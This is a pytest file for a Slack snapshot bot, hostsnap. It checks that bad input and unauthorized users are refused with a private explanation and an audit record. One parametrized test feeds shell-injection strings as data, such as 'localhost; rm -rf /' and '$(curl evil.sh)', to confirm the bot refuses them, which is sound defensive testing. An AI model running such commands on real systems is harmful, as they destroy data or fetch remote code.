"""Bad input and refusals: an ephemeral explanation to the requester only,
an audit row, and no host touched (no snapshot created)."""

from __future__ import annotations

import pytest

from bot.settings.slack import AuthzRule
from tests.fakeslack import FakeSlack
from tests.slack.conftest import summary_of


async def refused(bot, fake: FakeSlack, text: str, user: str = "U1",
                  channel: str = "C1") -> str:
    ack = await fake.command(text, user=user, channel=channel)
    assert ack.status == 200
    await bot.idle()
    said = fake.ephemerals_for(user)
    assert len(said) == 1, said
    assert not fake.bot_messages(channel), "a refusal must not post in the channel"
    assert await bot.store.count_snapshots() == 0, "a refused command touched a host"
    fake.ephemerals.clear()
    return said[0]


@pytest.mark.parametrize("text", ["localhost; rm -rf /", "$(curl evil.sh)", "`reboot`",
                                  "localhost && shutdown -h now"])
async def test_shell_injection(bot, fake: FakeSlack, text: str) -> None:
    said = await refused(bot, fake, text)
    assert "looks like a shell command" in said
    assert "never runs what you type" in said
    (ev,) = await bot.store.audit_events(action="refused")
    assert ev.actor == "slack:U1" and ev.detail["kind"] == "input"
    assert ev.detail["typed"] == text


async def test_unknown_host_gets_suggestions(bot, fake: FakeSlack) -> None:
    said = await refused(bot, fake, "localhots")
    assert "unknown host 'localhots' — did you mean localhost?" in said
    assert "Nothing was captured" in said


async def test_too_many_hosts_and_malformed_ids(bot_factory, fake: FakeSlack) -> None:
    bot = await bot_factory(max_hosts=2)
    assert "one command captures at most 2" in await refused(bot, fake, "a b c")
    said = await refused(bot, fake, "show 0o0o")
    assert "`0o0o` is not a snapshot id" in said
    said = await refused(bot, fake, "show k7m2qx9d")
    assert "no snapshot k7m2qx9d" in said


async def test_channel_not_allowed(bot_factory, fake: FakeSlack) -> None:
    bot = await bot_factory(authz=[AuthzRule(groups=["*"], user_groups=["*"], channels=["CINCIDENT"])])
    said = await refused(bot, fake, "localhost", channel="CRANDOM")
    assert said.startswith("You may not capture group `local` from this channel")
    (ev,) = await bot.store.audit_events(action="refused")
    assert ev.detail["kind"] == "authz" and ev.target == "localhost"
    await fake.command("localhost", channel="CINCIDENT")
    await summary_of(fake, channel="CINCIDENT")


async def test_user_group_membership(bot_factory, fake: FakeSlack) -> None:
    fake.usergroups["SONCALL"] = ["UALICE"]
    bot = await bot_factory(authz=[AuthzRule(groups=["*"], channels=["*"], user_groups=["SONCALL", "UBOB"])])
    said = await refused(bot, fake, "localhost", user="UMALLORY")
    assert "no [[authz]] rule allows you (UMALLORY) here" in said
    await fake.command("localhost", user="UALICE")
    await summary_of(fake)
    await bot.idle()
    await fake.command("help", user="UBOB")  # listed by user id
    await fake.command("list", user="UALICE")
    await bot.idle()
    # membership is cached: one lookup for all these decisions
    assert len(fake.calls_of("usergroups.users.list")) == 1


async def test_user_group_lookup_failing_denies_with_reason(bot_factory,
                                                             fake: FakeSlack) -> None:
    bot = await bot_factory(authz=[AuthzRule(groups=["*"], channels=["*"], user_groups=["SGONE"])])
    said = await refused(bot, fake, "localhost", user="UALICE")
    assert "no [[authz]] rule allows you (UALICE) here (could not check membership of " \
           "user group SGONE: usergroups.users.list: no_such_subteam)" in said


async def test_browse_only_rule_cannot_capture(bot_factory, fake: FakeSlack) -> None:
    bot = await bot_factory(authz=[AuthzRule(groups=["*"], channels=["*"], user_groups=["*"], capture=False)])
    said = await refused(bot, fake, "localhost")
    assert said.startswith("You may not capture group `local`")
    await fake.command("list")
    await bot.idle()
    assert "No snapshots yet" in fake.top_level()[0].all_text


async def test_no_rules_no_capture(bot_factory, fake: FakeSlack) -> None:
    bot = await bot_factory(authz=[])
    said = await refused(bot, fake, "localhost")
    assert "Ask whoever runs hostsnap to add one" in said


async def test_channel_without_the_bot_answers_through_response_url(bot,
                                                                    fake: FakeSlack) -> None:
    fake.not_in_channels.add("CPRIV")
    await fake.command("localhost; reboot", channel="CPRIV")
    await fake.command("localhost", channel="CPRIV")
    await bot.idle()
    assert not fake.ephemerals and not fake.bot_messages("CPRIV")
    refusal, saved = (r["text"] for r in fake.responses)
    assert "looks like a shell command" in refusal
    assert all(r["response_type"] == "ephemeral" for r in fake.responses)
    (snap,) = await bot.store.list_snapshots("localhost")
    assert saved == (f"Snapshot `{snap.id}` of localhost is saved, but I cannot post in this "
                     "channel (not_in_channel): `/invite @hostsnap`, then "
                     f"`/snapshot show {snap.id}`.")
